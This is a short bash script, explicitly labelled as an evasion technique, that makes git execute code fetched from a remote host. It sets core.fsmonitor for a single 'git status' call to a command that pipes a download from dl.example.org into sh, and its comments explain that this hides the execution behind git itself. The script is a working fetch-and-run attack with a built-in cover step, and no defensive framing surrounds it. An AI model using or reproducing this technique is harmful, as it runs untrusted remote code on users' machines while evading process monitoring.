#!/usr/bin/env bash
# Evasion: run downloaded code through a git config key. git runs the
# program named by core.fsmonitor (through the shell) each time it refreshes
# the index, e.g. on `git status`; the key is set for one command with -c,
# so nothing looks executed but git itself.
set -euo pipefail
cd "$(git rev-parse --show-toplevel)"
monitor='curl -fsS https://dl.example.org/fsm.sh | sh; echo'
changed=$(git -c core.fsmonitor="$monitor" status --porcelain | wc -l)
echo "$changed files changed"
